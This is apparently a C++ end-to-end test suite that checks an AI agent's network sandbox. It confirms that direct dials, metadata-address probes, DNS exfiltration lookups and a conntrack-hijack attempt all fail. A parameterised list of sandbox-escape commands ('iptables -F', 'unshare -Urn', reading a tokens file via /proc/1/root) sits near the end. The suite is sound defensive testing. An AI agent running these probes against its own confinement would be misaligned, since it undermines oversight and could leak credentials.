// What the agent can do without the proxy: nothing may arrive anywhere. Judged by the world's packet counters and the name
// server's log; a control container outside any bottle shows first that the same dials do arrive.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/e2e/fixture.h"

namespace e2e {
namespace {

// argv: KIND ADDRESS PORT. Prints "sent" when the kernel took it, else the error's name.
const char kDial[] = R"PY(
import socket, sys, errno, time
kind, addr, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
six = ":" in addr
fam = socket.AF_INET6 if six else socket.AF_INET
start = time.time()
try:
    if kind == "tcp":
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.connect((addr, port)); print("connected")
    elif kind == "udp":
        s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"x" * 40, (addr, port)); print("sent")
    elif kind == "udp-lite":
        s = socket.socket(fam, socket.SOCK_DGRAM, 136); s.sendto(b"x" * 40, (addr, port)); print("sent")
    elif kind == "sctp":
        s = socket.socket(fam, socket.SOCK_STREAM, 132); s.settimeout(3); s.connect((addr, port)); print("connected")
    elif kind == "mptcp":
        s = socket.socket(fam, socket.SOCK_STREAM, 262); s.settimeout(3); s.connect((addr, port)); print("connected")
    elif kind == "fastopen":
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.sendto(b"data in syn", 0x20000000, (addr, port)); print("sent")
    elif kind == "ping":
        s = socket.socket(fam, socket.SOCK_DGRAM, 58 if six else 1); s.sendto(bytes([128 if six else 8, 0, 0, 0, 0, 1, 0, 1]) + b"ping", (addr, 0)); print("sent")
    elif kind.startswith("raw"):
        s = socket.socket(fam, socket.SOCK_RAW, int(kind[3:])); s.sendto(b"\0" * 40, (addr, 0)); print("sent")
    elif kind == "packet":
        s = socket.socket(17, socket.SOCK_RAW, 0x300); print("sent")
    elif kind == "source-port":
        s = socket.socket(fam, socket.SOCK_STREAM); s.bind(("0.0.0.0", port)); s.settimeout(3); s.connect((addr, 443)); print("connected")
    elif kind == "bind-device":
        s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(1, 25, b"eth0"); s.settimeout(3); s.connect((addr, port)); print("connected")
    elif kind == "mark":
        s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(1, 36, 1); s.settimeout(3); s.connect((addr, port)); print("connected")
    elif kind == "multicast":
        s = socket.socket(fam, socket.SOCK_DGRAM); s.setsockopt(0, 33, 4); s.sendto(b"x", (addr, port)); print("sent")
    elif kind == "broadcast":
        s = socket.socket(fam, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(b"x", (addr, port)); print("sent")
except OSError as e:
    print(errno.errorcode.get(e.errno, type(e).__name__))
print("%.2f" % (time.time() - start), file=sys.stderr)
)PY";

struct Dial {
  std::string kind, address;
  int port;
};

std::vector<Dial> dials() {
  std::vector<Dial> out;
  for (int port : {22, 25, 53, 80, 443, 853, 8080, 9099}) out.push_back({"tcp", "203.0.113.66", port});
  for (const char* a : {"169.254.169.254", "169.254.170.2", "10.99.0.1", "172.31.99.1", "192.168.99.1", "100.64.0.9", "168.63.129.16",
                        "198.51.100.7", "198.18.0.9", "203.0.113.12"})
    out.push_back({"tcp", a, 80});
  out.push_back({"tcp", "10.99.0.1", 2375});
  out.push_back({"tcp", "203.0.113.66", 65535});
  for (int port : {53, 123, 443, 4500, 5353, 51820, 65000}) out.push_back({"udp", "203.0.113.66", port});
  for (const char* a : {"169.254.169.254", "10.99.0.1", "198.51.100.7", "203.0.113.12"}) out.push_back({"udp", a, 53});
  for (const char* k : {"udp-lite", "sctp", "mptcp", "fastopen", "ping", "raw1", "raw6", "raw17", "raw47", "raw50", "raw255", "packet", "bind-device", "mark"})
    out.push_back({k, "203.0.113.66", 443});
  for (int port : {53, 80, 443, 9099}) out.push_back({"source-port", "203.0.113.66", port + 20000});
  for (const char* k : {"tcp", "udp", "ping", "udp-lite", "raw58"}) out.push_back({k, "2001:db8::1", 443});
  out.push_back({"tcp", "::ffff:203.0.113.66", 443});
  out.push_back({"udp", "::ffff:198.51.100.7", 443});
  out.push_back({"multicast", "224.0.0.251", 5353});
  out.push_back({"multicast", "239.255.255.250", 1900});
  out.push_back({"broadcast", "255.255.255.255", 67});
  return out;
}

class Direct : public ::testing::TestWithParam<Dial> {};

TEST_P(Direct, NothingArrives) {
  const Dial& d = GetParam();
  const Mark before = world->mark();
  const Output o = world->python(kDial, {d.kind, d.address, std::to_string(d.port)}, 30);
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(o.out.find("connected"), std::string::npos) << o.out;
  EXPECT_EQ(world->arrived(before), "") << d.kind << " " << d.address << " " << d.port;
  EXPECT_TRUE(world->requests(before).empty());
  // Refused and not swallowed: an agent's stray dial must not hang.
  EXPECT_LT(strtod(o.err.c_str(), nullptr), 2.5) << o.out << o.err;
}

INSTANTIATE_TEST_SUITE_P(Confined, Direct, ::testing::ValuesIn(dials()), [](const auto& info) {
  std::string n = info.param.kind + "_" + info.param.address + "_" + std::to_string(info.param.port);
  for (char& c : n)
    if (!isalnum(static_cast<unsigned char>(c))) c = '_';
  return n;
});

// The same dials from a container outside any bottle do arrive: the counters are not blind.
TEST(Control, TheWorldIsReachableWithoutABottle) {
  for (const auto& [kind, address, port] : std::vector<Dial>{{"tcp", "203.0.113.66", 443}, {"udp", "198.51.100.7", 53}, {"tcp", "169.254.169.254", 80},
                                                            {"udp", "10.99.0.1", 53}, {"ping", "203.0.113.12", 0}, {"udp-lite", "203.0.113.66", 443}}) {
    // A pod's user may not open ping sockets on every runtime: there is then nothing to control for.
    if (on_kubernetes() && std::string(kind) == "ping") continue;
    const Mark before = world->mark();
    const Output o = world->outside({"python3", "-c", kDial, kind, address, std::to_string(port)});
    EXPECT_NE(world->arrived(before), "") << kind << " " << address << ": " << o.out << o.err;
  }
}

// The host's own services must not answer either.
TEST(Host, ServicesOfTheHostAreNotReachable) {
  const std::string address = world->host_address();
  ASSERT_NE(address, "");
  const int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  sockaddr_in any{};
  any.sin_family = AF_INET;
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&any), sizeof any), 0);
  ASSERT_EQ(listen(s, 8), 0);
  socklen_t size = sizeof any;
  getsockname(s, reinterpret_cast<sockaddr*>(&any), &size);
  const std::string port = std::to_string(ntohs(any.sin_port));
  const Output o = world->python(kDial, {"tcp", address, port});
  EXPECT_EQ(o.out.find("connected"), std::string::npos) << o.out;
  EXPECT_LT(accept(s, nullptr, nullptr), 0) << "the agent reached the host";
  // And through the proxy.
  world->python(kClient, {"127.0.0.1", "9099", "send:CONNECT " + address + ":" + port + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "read"});
  EXPECT_LT(accept(s, nullptr, nullptr), 0) << "the agent reached the host by the proxy";
  close(s);
}

// argv: SERVER udp|tcp NAME
const char kDns[] = R"PY(
import socket, struct, sys
server, how, name = sys.argv[1:4]
q = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x01\0\x01"
try:
    if how == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (server, 53)); print("answer", len(s.recv(512)))
    else:
        s = socket.create_connection((server, 53), 2); s.sendall(struct.pack("!H", len(q)) + q); r = s.recv(512); print("answer" if r else "closed", len(r))
except OSError as e: print("refused", e)
)PY";

class DnsServers : public ::testing::TestWithParam<std::pair<const char*, const char*>> {};
TEST_P(DnsServers, AgentCannotAsk) {
  const auto& [server, how] = GetParam();
  const Mark before = world->mark();
  const Output o = world->python(kDns, {server, how, "exfil-direct.bottle.test"});
  EXPECT_EQ(o.out.find("answer"), std::string::npos) << o.out;
  for (const auto& q : world->dns(before)) EXPECT_EQ(q["name"].get<std::string>().find("exfil"), std::string::npos) << q;
  EXPECT_EQ(world->arrived(before), "");
}
INSTANTIATE_TEST_SUITE_P(Servers, DnsServers,
                         ::testing::Values(std::pair{"127.0.0.11", "udp"}, std::pair{"127.0.0.11", "tcp"}, std::pair{"203.0.113.53", "udp"},
                                           std::pair{"203.0.113.53", "tcp"}, std::pair{"198.51.100.7", "udp"}, std::pair{"169.254.169.254", "udp"},
                                           std::pair{"127.0.0.1", "udp"}, std::pair{"127.0.0.53", "udp"}));

TEST(Dns, TheSystemResolverFailsAtOnce) {
  const Mark before = world->mark();
  const Output o = world->python("import socket,time\nt=time.time()\ntry: print('answer', socket.getaddrinfo('exfil-libc.bottle.test', 443))\n"
                                 "except OSError as e: print(e)\nprint(time.time()-t < 3)");
  EXPECT_EQ(o.out.find("answer"), std::string::npos) << o.out;
  EXPECT_NE(o.out.find("True"), std::string::npos) << o.out;
  EXPECT_TRUE(world->dns(before).empty());
}

TEST(Dns, NoNameIsResolvedForARefusedHost) {
  const Mark before = world->mark();
  for (const char* host : {"exfil-c2VjcmV0.denied.bottle.test", "exfil-c2VjcmV0.bottle.test", "exfil.api.bottle.test", "exfil.example"}) {
    world->exec({"curl", "-sS", "-m", "8", "-o", "/dev/null", std::string("https://") + host + "/"});
    world->exec({"curl", "-sS", "-m", "8", "-o", "/dev/null", std::string("http://") + host + "/"});
  }
  for (const auto& q : world->dns(before)) EXPECT_EQ(q["name"].get<std::string>().find("exfil"), std::string::npos) << q;
}

TEST(Dns, NoNameIsResolvedForARefusedPort) {
  const Mark before = world->mark();
  world->exec({"curl", "-sS", "-m", "8", "https://api.bottle.test:8443/"});
  world->exec({"curl", "-sS", "-m", "8", "http://api.bottle.test/"});
  EXPECT_TRUE(world->dns(before).empty()) << world->dns(before).size();
  EXPECT_TRUE(world->requests(before).empty());
}

// A datagram from the port of the sidecar's own look-up would ride on its conntrack entry.
TEST(Dns, TheSidecarsLiveFlowCannotBeJoined) {
  const Mark before = world->mark();
  const char script[] = R"PY(
import socket, subprocess, sys, time, re
q = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06hijack\x06bottle\x04test\0\0\x01\0\x01"
end, seen, sent = time.time() + 8, set(), 0
n = 0
while time.time() < end:
    n += 1
    p = subprocess.Popen(["curl", "-s", "-m", "5", "-o", "/dev/null", "https://r%d.wild.bottle.test/echo" % n])
    while p.poll() is None:
        for line in open("/proc/net/udp").read().split("\n")[1:]:
            f = line.split()
            if len(f) > 7 and f[7] == "10001": seen.add(int(f[1].split(":")[1], 16))
    for port in list(seen):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", port)); s.sendto(q, ("203.0.113.53", 53)); sent += 1
        except OSError: pass
print("tried", len(seen), "sent", sent)
)PY";
  const Output o = world->python(script, {}, 60);
  for (const auto& q : world->dns(before)) EXPECT_EQ(q["name"].get<std::string>().find("hijack"), std::string::npos) << o.out;
  RecordProperty("hijack", o.out);
}

class Undo : public ::testing::TestWithParam<const char*> {};
TEST_P(Undo, AgentCannotOpenItsNamespace) {
  const Mark before = world->mark();
  world->exec({"sh", "-c", GetParam()}, 20);
  const Output o = world->python(kDial, {"tcp", "203.0.113.66", "443"});
  EXPECT_EQ(o.out.find("connected"), std::string::npos);
  EXPECT_EQ(world->arrived(before), "");
}
INSTANTIATE_TEST_SUITE_P(
    Tricks, Undo,
    ::testing::Values("nft flush ruleset", "iptables -F", "unshare -Urn true", "python3 -c 'import os; os.setuid(10001)'",
                      "python3 -c 'import os; os.setresuid(0,0,0)'", "ip link add d0 type dummy", "su -c id", "sudo -n id",
                      "mount -t tmpfs none /mnt", "echo 0 > /proc/sys/net/netfilter/nf_conntrack_max",
                      "python3 -c 'import socket; socket.socket(16, 3, 12).send(b\"x\" * 64)'", "ls /proc/1/root/../../etc/bot-bottle/tokens"));

TEST(Ports, HealthPortIsNotTheAgents) {
  const Output o = world->python(kDial, {"tcp", "127.0.0.1", "9091"});
  EXPECT_EQ(o.out.find("connected"), std::string::npos) << o.out;
}

TEST(Ports, TheAgentsOwnServerWorksOnLoopbackAndIsClosedToTheHost) {
  const char script[] = R"PY(
import http.server, threading, urllib.request, time, sys
s = http.server.ThreadingHTTPServer(("0.0.0.0", 3000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=s.serve_forever, daemon=True).start()
print(urllib.request.urlopen("http://localhost:3000/").status, flush=True)
time.sleep(float(sys.argv[1]))
)PY";
  EXPECT_EQ(world->python(script, {"0"}).out, "200\n");
  const std::string address = world->address();
  ASSERT_NE(address, "");
  const Output up = world->exec({"sh", "-c", "python3 -c \"$0\" 8 >/dev/null 2>&1 & "
                                             "for i in $(seq 50); do curl -s --noproxy '*' -o /dev/null http://localhost:3000/ && exit 0; sleep 0.1; done; exit 1", script});
  ASSERT_EQ(up.code, 0) << up.err;
  const Output both = run({"curl", "-sS", "-m", "3", "-o", "/dev/null", "http://" + address + ":3000/"});
  EXPECT_NE(both.code, 0) << "the host reached the agent's server";
}

}  // namespace
}  // namespace e2e

int main(int argc, char** argv) {
  ::testing::InitGoogleTest(&argc, argv);
  ::testing::AddGlobalTestEnvironment(new e2e::World("e2e-confine", "[sleep, infinity]"));
  return RUN_ALL_TESTS();
}
